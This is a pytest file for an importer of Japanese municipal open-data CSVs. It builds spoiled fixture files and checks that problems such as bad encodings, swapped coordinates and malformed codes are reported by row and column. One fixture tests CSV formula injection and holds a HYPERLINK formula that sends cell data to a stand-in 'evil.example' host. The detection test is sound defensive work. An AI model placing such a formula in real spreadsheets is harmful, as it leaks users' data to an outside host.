"""国の様式: each is known by its headers; spoiled editions of them are read or told by row and column."""

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from importers.drafts import drafts
from importers.files import measure
from importers.recognition import Recognised, recognise
from importers.sheets.base import FIELDS
from importers.standards import STANDARDS, standard_of
from importers.tables import Table, read_tables
from tests.lists import TODAY

HEADER = [
    "全国地方公共団体コード", "ID", "地方公共団体名", "名称", "名称_カナ", "所在地_連結表記", "所在地_市区町村", "緯度", "経度", "電話番号",
    "利用可能曜日", "開始時間",
    "終了時間", "URL", "備考",
]  # fmt: skip
ROWS = [
    ["292095", "M1", "奈良県生駒市", "見本サロンあおば", "ミホンサロンアオバ", "奈良県生駒市東新町1-1", "生駒市", "34.692", "135.700",
     "(0743)00-0001", "水", "10:00",
     "12:00", "https://example.jp/a", "第2・第4水曜"],
    ["292095", "M2", "奈良県生駒市", "見本食堂ひかり", "ミホンショクドウヒカリ", "奈良県生駒市壱分町2-2", "生駒市", "34.670", "135.705",
     "(0743)00-0002", "土", "17:00",
     "19:00", "", '要予約; "長期休み"あり'],
    ["292095", "M3", "奈良県生駒市", "見本居場所みどり", "ミホンイバショミドリ", "奈良県生駒市鹿ノ台南一丁目3-3", "生駒市", "34.735", "135.748",
     "(0743)00-0003",
     "月／水／金", "13:00", "16:00", "https://example.jp/c", "髙橋邸・①②③"],
]  # fmt: skip
KAIGO_HEADER = ["都道府県コード又は市町村コード", "No", "都道府県名", "市区町村名", "事業所名", "事業所名カナ", "サービスの種類", "住所",
 "方書（ビル名等）", "緯度", "経度", "電話番号", "FAX番号", "法人番号", "法人の名称", "事業所番号", "利用可能曜日", "利用可能曜日特記事項", "定員",
 "URL", "高齢者の方と障害者の方が同時一体的に利用できるサービス", "介護保険の通常の指定基準を満たしている", "障害福祉の通常の指定基準を満たしている",
 "備考"]
KAIGO = [
    ["292095", "1", "奈良県", "生駒市", "見本ケアプラン", "ミホンケアプラン", "居宅介護支援", "奈良県生駒市東新町1-1", "", "34.692", "135.700",
     "0743-00-0001",
     "0743-00-0002", "", "見本会", "2900000001", "平日", "", "0", "info@example.org", "", "", "", ""],
    ["292095", "2", "奈良県", "生駒市", "見本訪問介護", "ミホンホウモン", "訪問介護", "奈良県生駒市壱分町2-2", "見本ビル2階", "34.670", "135.705",
     "0743-00-0003", "", "",
     "株式会社見本", "2900000002", "月～土", "祝日休み", "", "0743-00-0003", "", "", "", ""],
]  # fmt: skip


@dataclass(frozen=True)
class Spoiled:
    """A file of the fourteen, one of ours that is spoiled alike, and what must be told: (row, column, words)."""

    file: str
    ours: Callable[[], bytes]
    told: tuple[tuple[int, str, str], ...] = ()
    rows: int = 3
    header_row: int = 1
    unsure: str = ""


def text(rows: list[list[str]], encoding: str = "utf-8-sig", header: list[str] = HEADER) -> bytes:
    """The table as a CSV."""
    made = io.StringIO()
    csv.writer(made).writerows([header, *rows])
    return made.getvalue().encode(encoding)


def put(cells: dict[tuple[int, str], str], rows: list[list[str]] = ROWS) -> list[list[str]]:
    """The rows with other texts: {(number from 2, header): text}."""
    made = [list(row) for row in rows]
    for (number, name), cell in cells.items():
        made[number - 2][HEADER.index(name)] = cell
    return made


def titled() -> bytes:
    blank = [""] * len(HEADER)
    rows = [["社会資源一覧（見本）", *blank[1:]], blank, HEADER, *ROWS, blank, ["※空欄は未調査", *blank[1:]]]
    return text(rows[1:], header=rows[0])


CODE, CITY = "全国地方公共団体コード", "所在地_市区町村"
SPOILED = (
    Spoiled("01_clean_utf8_bom.csv", lambda: text(ROWS)),
    Spoiled("02_cp932.csv", lambda: text(ROWS, "cp932")),
    Spoiled("03_utf16le_bom.csv", lambda: b"\xff\xfe" + text(ROWS, "utf-16-le")),
    Spoiled("04_lost_leading_zero_and_no_check_digit.csv", lambda: text(put({(2, CODE): "92011", (3, CODE): "29209", (4, CODE): "292096"})),
            ((2, CODE, "先頭の0"), (3, CODE, "検査数字がありません（292095）"), (4, CODE, "正しくありません"))),
    Spoiled("05_header_typo_halfwidth_numbered.csv",
            lambda: text(ROWS).decode().replace("_連結表記", "_連結標記").replace(",名称,", ",1.名称,").replace("コード", "ｺｰﾄﾞ").encode(),
            ),
    Spoiled("06_id_scientific_duplicate.csv", lambda: text(put({(n, "ID"): "3.43E+11" for n in (2, 3, 4)})),
            tuple((n, "ID", "指数表記") for n in (2, 3, 4))),
    Spoiled("07_lat_lon_swapped_zero_dms.csv", lambda: text(put({
        (2, "緯度"): "135.700", (2, "経度"): "34.692", (3, "緯度"): "0", (3, "経度"): "0", (4, "緯度"): "34°44′6″", (4, "経度"): "135°44′53″"})),
            ((2, "緯度", "入れかわっていた"), (3, "緯度", "日本の外"))),
    Spoiled("08_title_row_blank_rows_trailing.csv", titled, header_row=3),
    Spoiled("09_duplicate_columns.csv", lambda: text([[*row, row[8], row[7]] for row in ROWS], header=[*HEADER, "経度", "緯度"]),
            unsure="「経度（P列）」の列は、「経度」と同じ項目に見えるため使いません。"),
    Spoiled("10_formula_injection.csv", lambda: text(put({
        (2, "名称"): '=HYPERLINK("https://evil.example/?"&A1,"x")', (3, "名称"): "+81 743 見本", (3, "名称_カナ"): "@SUM(1,1)", (4, "名称"): "-見本",
        (4, "名称_カナ"): "\t=1+1"})), ((2, "名称", "式のように見えます"), (3, "名称_カナ", "式の"), (4, "名称_カナ", "式の"))),
    Spoiled("11_whole_address_in_city.csv", lambda: text(put({(n, CITY): "生駒市東新町1-1" for n in (2, 3, 4)})),
            tuple((n, CITY, "番地まで入っています") for n in (2, 3, 4))),
    Spoiled("12_multiline_cells_merged_days.csv", lambda: text(put({
        (2, "利用可能曜日"): "水\n木", (2, "開始時間"): "午前10時〜", (2, "終了時間"): "正午まで", (3, "利用可能曜日"): "毎月第３土曜",
         (3, "開始時間"): "17時",
        (3, "終了時間"): "19時頃", (4, "利用可能曜日"): "平日", (4, "開始時間"): "随時", (4, "終了時間"): ""})),
            ((3, "利用可能曜日", "19時頃"), (4, "利用可能曜日", "随時"))),
    Spoiled("13_mail_in_url.csv", lambda: text(put({(2, "URL"): "info@example.org"})), ((2, "URL", "メールアドレスとして読みました"),)),
    Spoiled("14_mhlw_24cols_capacity0_mail.csv", lambda: text(KAIGO, header=KAIGO_HEADER),
            ((2, "URL", "メールアドレスとして読みました"), (3, "URL", "http:// か https://")), rows=2),
)  # fmt: skip
each = pytest.mark.parametrize("one", SPOILED, ids=lambda one: one.file[:2])


def check(path: Path, one: Spoiled) -> Recognised:
    """The file gives its rows, its standard, and every sentence that it must; no other."""
    found = recognise(read_tables(measure(path)))
    read, refused = drafts(found.layout, today=TODAY)
    told = [(problem.row, problem.column, problem.message) for draft in read for problem in draft.problems]
    assert (len(read), refused, found.layout.header_row) == (one.rows, [], one.header_row) and found.standard
    assert len(told) == len(one.told), told
    for row, column, words in one.told:
        assert any((row, column) == (r, c) and words in message for r, c, message in told), (row, column, words, told)
    assert any(one.unsure in sentence for sentence in found.unsure) if one.unsure else not found.unsure
    assert all(draft.place and draft.place.address.startswith("奈良県生駒市") for draft in read)
    return found


@each
def test_a_spoiled_file_of_ours(tmp_path: Path, one: Spoiled) -> None:
    path = tmp_path / one.file
    path.write_bytes(one.ours())
    check(path, one)


@each
def test_a_spoiled_file_of_the_fourteen(shared_data: Path, one: Spoiled) -> None:
    path = shared_data.parent / "standards/jichitai-opendata/dirty-fixtures" / one.file
    if not path.is_file():
        pytest.skip(f"崩れたファイル {one.file} がないため確かめられません")
    check(path, one)


def test_what_is_understood_of_weekdays_in_a_spoiled_file(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_bytes(SPOILED[11].ours())
    read, _ = drafts(recognise(read_tables(measure(path))).layout, today=TODAY)
    assert read[0].values["schedule_words"] == "毎週 水・木曜 10:00–12:00"


@pytest.mark.parametrize("standard", STANDARDS, ids=lambda one: one.name)
def test_a_layout_is_known_by_its_own_headers(standard: object) -> None:
    from importers.standards import Standard

    assert isinstance(standard, Standard)
    headers = standard.headers.split("|")
    assert standard_of(headers) is standard
    assert set(standard.columns.values()) - {""} <= FIELDS and "name" in standard.columns.values()
    fields = [field for field in standard.columns.values() if field]
    assert {field for field in fields if fields.count(field) > 1} <= {"municipality_code", "prefecture", "schedule_note", "reservation"}
    found = recognise([Table("一覧", (tuple(headers), tuple("い" * (at % 3 + 1) for at, _ in enumerate(headers))))])
    assert found.standard == standard.name and not [guess for guess in found.guesses if guess.doubtful]


def test_a_list_of_a_department_is_no_national_layout() -> None:
    assert standard_of(["No", "名称", "住所", "電話番号", "緯度", "経度", "URL", "備考", "定員"]) is None


OFFICIAL = {
    "area-data-model-20260904/care_service_office.csv": "エリアデータ 介護サービス事業所",
    "area-data-model-20260904/childcare_facility.csv": "エリアデータ 子育て施設",
    "area-data-model-20260904/event.csv": "エリアデータ イベント", "area-data-model-20260904/medical_institution.csv": "エリアデータ 医療機関",
    "area-data-model-20260904/public_facility.csv": "エリアデータ 公共施設",
    "evacuation_site_39cols.csv": "自治体標準オープンデータセット 指定緊急避難場所",
    "recommended-v1/01_AED設置箇所一覧.csv": "推奨データセット AED設置箇所一覧",
    "recommended-v1/02_介護サービス事業所一覧.csv": "推奨データセット 介護サービス事業所一覧",
    "recommended-v1/03_医療機関一覧.csv": "推奨データセット 医療機関一覧", "recommended-v1/06_イベント一覧.csv": "推奨データセット イベント一覧",
    "recommended-v1/10_指定緊急避難場所一覧.csv": "推奨データセット 指定緊急避難場所一覧",
    "recommended-v1/12_公共施設一覧.csv": "推奨データセット 公共施設一覧",
    "recommended-v1/13_子育て施設一覧.csv": "推奨データセット 子育て施設一覧",
}  # fmt: skip


@pytest.mark.parametrize("file", OFFICIAL)
def test_no_official_column_is_unknown(shared_data: Path, file: str) -> None:
    path = shared_data.parent / "standards/jichitai-opendata" / file
    if not path.is_file():
        pytest.skip(f"項目の表 {file} がないため確かめられません")
    headers = [row["name_ja"] for row in csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines())]
    standard = standard_of(headers)
    assert standard is not None and standard.name == OFFICIAL[file]
    assert set(standard.fields(headers)) == set(headers)


@pytest.mark.parametrize("file", ["mhlw_kaigo_jigyosho_header_24cols.csv", "wamnet_disability_header_29cols.csv"])
def test_no_column_of_the_ministry_is_unknown(shared_data: Path, file: str) -> None:
    path = shared_data.parent / "standards/jichitai-opendata" / file
    if not path.is_file():
        pytest.skip(f"見出しの行 {file} がないため確かめられません")
    headers = path.read_text(encoding="utf-8-sig").strip().split(",")
    standard = standard_of(headers)
    assert standard is not None and set(standard.fields(headers)) == set(headers)
